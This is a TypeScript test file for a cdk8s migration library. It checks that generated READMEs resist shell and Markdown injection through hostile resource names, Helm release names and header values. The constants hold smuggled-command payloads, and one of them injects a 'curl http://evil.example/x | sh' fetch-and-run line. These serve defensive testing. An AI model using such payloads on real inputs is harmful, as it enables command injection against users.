import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { Testing } from 'cdk8s';
import { expectReadmesSafe, readmesUnder, renderReadme } from './readme-commands';
import { GitOpsWriter, MigrationStrategy, SimpleMigration, ZeroDowntimeMigration } from '../../src';

/** A name that runs a command when pasted unquoted. */
const SHELL_NAME = 'x; touch pwned-name #';
/** A name that, pasted into Markdown, closes the code fence and adds a heading and a command of its own. */
const FENCE_NAME = 'm\n```\n# Pwned\n\ncurl http://evil.example/x | sh\n```\n';
const RELEASE = 'r$(touch pwned-release)';
const PREVIEW_VALUE = 'ga\'; touch pwned-preview; echo \'';

function written(build: (app: ReturnType<typeof Testing.app>) => void): Map<string, string> {
  const outdir = fs.mkdtempSync(path.join(os.tmpdir(), 'readme-safety-'));
  const app = Testing.app();
  build(app);
  new GitOpsWriter({ outdir }).writeAll(app);
  const readmes = readmesUnder(outdir);
  fs.rmSync(outdir, { recursive: true, force: true });
  return readmes;
}

describe('READMEs written from hostile names and text', () => {
  describe('given a zero-downtime migration of a Helm-installed pool whose release, InferenceModel names and preview header are built to inject', () => {
    const readmes = written((app) => {
      const m = new ZeroDowntimeMigration(app, 'm', {
        alphaPool: {
          existing: {
            name: 'p-alpha',
            modelServerSelector: { app: 'x' },
            helmRelease: RELEASE,
            inferenceModelNames: [SHELL_NAME, '--all', FENCE_NAME],
          },
        },
        gateway: { name: 'inference-gateway' },
        strategy: MigrationStrategy.HEADER_PREVIEW_CUTOVER,
        previewHeader: { name: 'x-preview', value: PREVIEW_VALUE },
      });
      // A library user's own text, and a command that holds a fence.
      m.stages[0].addWarning(`warning: ${FENCE_NAME}`);
      m.stages[0].addManualStep({ text: `1. # step\n${FENCE_NAME}| a | b |\n<!-- hidden\n- \`\`\`\n- # x\n\n- > y\n1. z`, commands: ['echo \'```\'', '```', '# not a heading'] });
      m.stages[0].addVerification({ description: FENCE_NAME, command: 'echo done', expected: `> ${FENCE_NAME}` });
    });

    test('then no README gets a heading, a fence or HTML from them, and pasting every command block runs nothing injected', () => {
      const calls = expectReadmesSafe(readmes);
      // The values reached the tools whole, as single arguments.
      expect(calls).toContainEqual(['helm', 'uninstall', RELEASE, '-n', 'default']);
      expect(calls).toContainEqual(['kubectl', 'delete', 'inferencemodels.inference.networking.x-k8s.io', '-n', 'default', '--', SHELL_NAME, '--all', FENCE_NAME]);
      expect(calls.filter((c) => c[0] === 'curl' && c.includes(`x-preview: ${PREVIEW_VALUE}`))).toHaveLength(1);
    });

    test('then the user\'s fenced command is shown whole in one block', () => {
      const readme = renderReadme(readmes.get(path.join('m', '01-side-by-side', 'README.md'))!);
      expect(readme.codeBlocks).toContainEqual('echo \'```\'\n```\n# not a heading\n');
    });
  });

  describe('given a simple migration with the same names', () => {
    const readmes = written((app) => {
      new SimpleMigration(app, 'm', {
        alphaPool: { existing: { name: 'p-alpha', modelServerSelector: { app: 'x' }, helmRelease: RELEASE, inferenceModelNames: [SHELL_NAME, FENCE_NAME] } },
        gateway: { name: 'inference-gateway' },
      });
    });

    test('then its READMEs are just as safe', () => {
      const calls = expectReadmesSafe(readmes);
      expect(calls).toContainEqual(['kubectl', 'delete', 'inferencemodels.inference.networking.x-k8s.io', '-n', 'default', SHELL_NAME, FENCE_NAME]);
      expect(readmes.get(path.join('m', '01-remove-alpha', 'README.md'))).not.toMatch(/^# Pwned/m);
    });
  });
});
